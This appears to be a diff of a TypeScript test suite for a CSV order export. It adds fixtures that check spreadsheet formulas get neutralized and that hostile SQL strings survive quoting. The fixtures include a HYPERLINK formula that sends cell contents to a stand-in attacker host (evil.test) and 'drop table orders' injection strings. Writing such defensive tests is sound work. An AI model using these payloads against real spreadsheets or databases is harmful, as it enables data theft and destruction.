@@ -13,10 +13,17 @@ import { encodeCursor, parseOrderFilters } from "./filters";
 
 const text = (stream: ReadableStream<Uint8Array>) => new Response(stream).text();
 
-/** Characters a careless COPY text would choke on; no digit and no "@", so it is a name search. */
-const HOSTILE = `d'Ivoire \\ "la" %_; \n'); drop table orders; --`;
+/**
+ * Characters a careless COPY text would choke on; no digit and no "@", so it is a name search.
+ * No line break: a search holding a control character is dropped (filters.ts); the COPY literals
+ * test below keeps one.
+ */
+const HOSTILE = `d'Ivoire \\ "la" %_; '); drop table orders; --`;
 /** The same with digits: searched as references (order prefix, payment and provider reference). */
-const HOSTILE_REF = `7'\\"; 50%_ \n'); drop table orders; --`;
+const HOSTILE_REF = `7'\\"; 50%_ '); drop table orders; --`;
+
+/** A shopper's name that Excel would run as a formula, were it not neutralized. */
+const FORMULA = `=HYPERLINK("http://evil.test/?d="&A1,"Cliquez ici")`;
 
 type PaymentSpec = Partial<typeof s.payments.$inferInsert> & Pick<typeof s.payments.$inferInsert, "provider" | "status">;
 
@@ -82,6 +89,40 @@ async function addEdgeOrders(database: Database, slug: "demo" | "autre") {
   await add({ customerName: "Tie A", amountMinor: 100 }, [], "2026-01-15 10:00:00.000500+00");
   await add({ customerName: "Tie B", amountMinor: 100 }, [], "2026-01-15 10:00:00.000500+00");
   await add({ customerName: " leading and trailing " }, [{ provider, status: "cancelled", providerReference: HOSTILE_REF }], "2026-01-16 00:00:00+00");
+  // Formulas a spreadsheet would run (CSV injection), in every free-text column.
+  await add({ reference: `=1+2${slug}`, customerName: FORMULA, customerEmail: "@SUM(1+1)@evil.test", customerPhone: "-2+3" }, [
+    { provider, status: "paid", method: "=cmd", providerReference: "+HYPERLINK(1)", netMinor: -3 },
+  ]);
+  await add({ customerName: "\t=1+1", customerEmail: "\r=1+1@evil.test", customerPhone: "+2250700000099" }, [{ provider, status: "failed", method: "-", providerReference: "-42" }]);
+}
+
+/** RFC 4180 records back into fields (quoted fields may hold commas, quotes and line breaks). */
+function parseCsv(csv: string): string[][] {
+  const records: string[][] = [];
+  let record: string[] = [];
+  let field = "";
+  let quoted = false;
+  for (let i = 0; i < csv.length; i++) {
+    const c = csv[i]!;
+    if (quoted && c === '"' && csv[i + 1] === '"') {
+      field += '"';
+      i++;
+    } else if (c === '"') {
+      quoted = !quoted;
+    } else if (!quoted && c === ",") {
+      record.push(field);
+      field = "";
+    } else if (!quoted && c === "\r" && csv[i + 1] === "\n") {
+      record.push(field);
+      records.push(record);
+      record = [];
+      field = "";
+      i++;
+    } else {
+      field += c;
+    }
+  }
+  return records;
 }
 
 const postgresOnly = TEST_DATABASES.filter((d) => d.name === "postgres");
@@ -132,6 +173,7 @@ describe.each(TEST_DATABASES)("CSV export on $name", ({ name, open }) => {
     ["search: provider reference", { q: 'MP,1"2' }],
     ["search: hostile provider reference", { q: HOSTILE_REF }],
     ["search: nothing", { q: "%" }],
+    ["search: a formula", { q: "HYPERLINK" }],
   ];
 
   for (const slug of ["demo", "autre"] as const) {
@@ -159,6 +201,27 @@ describe.each(TEST_DATABASES)("CSV export on $name", ({ name, open }) => {
     expect(demo).toContain("EDEMO009,2026-01-15T10:00:00.000Z,Tie A,");
   });
 
+  it("neutralizes formulas in free-text cells with a leading quote, leaving amounts and E.164 phones as they are", async () => {
+    for (const slug of ["demo", "autre"] as const) {
+      const csv = await text(exportOrdersCsv(database, ids[slug]!, parseOrderFilters({}, currencyOf[slug])));
+      const currency = currencyOf[slug];
+      expect(csv).toContain(`'=1+2${slug},`);
+      expect(csv).toContain(`,"'=HYPERLINK(""http://evil.test/?d=""&A1,""Cliquez ici"")",'@SUM(1+1)@evil.test,'-2+3,${currency},`);
+      expect(csv).toContain(`,'=cmd,paid,'+HYPERLINK(1),`);
+      expect(csv).toContain(`,'\t=1+1,"'\r=1+1@evil.test",+2250700000099,${currency},`);
+      expect(csv).toContain(`,'-,failed,-42,`);
+      // A negative net is a number the spreadsheet must keep: never quoted.
+      expect(csv).toMatch(new RegExp(`,${currency},[0-9.]+,[0-9.]*,[a-z]*,-[0-9.]+,`));
+      // No free-text cell starts a formula: every field of every record, parsed back.
+      for (const record of parseCsv(csv).slice(1)) {
+        for (const [i, field] of record.entries()) {
+          if (["amount", "fee", "net"].includes(CSV_HEADER[i]!)) continue;
+          expect(field, `${CSV_HEADER[i]} ${JSON.stringify(field)}`).not.toMatch(/^[=+\-@\t\r](?![0-9]+(\.[0-9]+)?$)/);
+        }
+      }
+    }
+  });
+
   it("a hostile search string finds its order, as a name, and breaks nothing", async () => {
     for (const slug of ["demo", "autre"] as const) {
       const csv = await text(exportOrdersCsv(database, ids[slug]!, parseOrderFilters({ q: HOSTILE }, currencyOf[slug])));
@@ -183,7 +246,7 @@ describe.each(postgresOnly)("COPY literals on $name", ({ open }) => {
   });
 
   it.each(["on", "off"])("read back exactly with standard_conforming_strings = %s", async (setting) => {
-    const values = [HOSTILE, HOSTILE_REF, "\\", "\\'", "''", "a\\nb", "é ✓ 'x' \"y\"", "$1", "E'x'"];
+    const values = [HOSTILE, HOSTILE_REF, `${HOSTILE}\n${HOSTILE_REF}`, "\\", "\\'", "''", "a\\nb", "é ✓ 'x' \"y\"", "$1", "E'x'"];
     const read = await database.db.transaction(async (tx) => {
       await tx.execute(sql.raw(`set local standard_conforming_strings = ${setting}`));
       const rows = await tx.execute(sql.raw(`select ${values.map((v, i) => `${quoteLiteral(v)} as v${i}`).join(", ")}`));
